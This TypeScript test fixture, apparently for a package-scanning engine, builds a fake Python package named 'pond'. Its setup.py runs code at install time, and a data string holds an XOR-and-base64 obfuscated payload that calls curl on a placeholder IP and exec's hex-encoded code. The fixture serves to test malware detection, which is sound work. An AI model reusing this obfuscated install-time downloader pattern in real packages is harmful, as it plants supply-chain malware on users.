import { createScanPool, type ScanPool } from "../../../../main/scan/scan-pool.ts";
import type { ScannedPackage } from "../../../../main/scan/scanned-package.ts";
import { buildTar, gzip } from "../../../support/tar-builder.ts";

/** Inert; nothing of it ever runs. */
export const HIDDEN = `import os
import subprocess
subprocess.Popen(["curl", "http://192.0.2.7/next"])
exec(bytes.fromhex("${Buffer.from("print('inner frog')\n").toString("hex")}"))
`;
/** With a key that stands nowhere: only an analyst gets at it. */
export const KEY = "frog";
export const ENCODED = Buffer.from(
	Buffer.from(HIDDEN).map((byte, index) => byte ^ KEY.charCodeAt(index % KEY.length)),
).toString("base64");

const FILES = {
	"PKG-INFO": "Metadata-Version: 2.1\nName: pond\nVersion: 1.0\n",
	"setup.py":
		"from setuptools import setup\nfrom pond.helpers import boot\nboot()\nsetup(name='pond', version='1.0', packages=['pond'])\n",
	"pond/__init__.py": "from .helpers import boot\nfrom .helpers import Frog\n\nHOOK = 'web' + 'hook'\n",
	"pond/helpers.py": `from subprocess import Popen as start

class Frog:
    def croak(self, times):
        count = times + 1
        return count

def boot():
    start(["true"])
    Frog().croak(2)

def unused():
    boot()

DATA = "${ENCODED}"
`,
	"pond/blob.bin": "\u0000\u0001\u0002 needle \u0000n\u0000e\u0000e\u0000d\u0000l\u0000e\u0000",
};

/** A small package as the engine has it, with its code indexed. */
export async function openPond(): Promise<{ pool: ScanPool; scanned: ScannedPackage }> {
	const pool = createScanPool({ jobs: 1, indexCode: true });
	const bytes = gzip(buildTar(Object.entries(FILES).map(([name, content]) => ({ name: `pond-1.0/${name}`, content }))));
	return { pool, scanned: await pool.scan({ kind: "bytes", filename: "pond-1.0.tar.gz", bytes, origin: "test" }) };
}

export function idOf({ analysis }: ScannedPackage, name: string): string {
	const member = analysis.members.find(({ path }) => path === `pond-1.0/${name}`);
	if (member === undefined) throw new Error(`no member ${name}`);
	return member.id;
}
